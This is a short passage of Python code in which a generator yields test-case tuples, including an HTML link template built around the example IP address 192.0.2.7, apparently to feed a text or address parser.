        yield kind, f"{before}«{written}={ANY}»{behind}", ""
    for before, behind in AROUND:
        yield HTML, f'<a href="{before}«192.0.2.7»{behind}">x</a>', ""
    for kind, text, *path in PLACES:
        yield kind, text, path[0] if path else ""
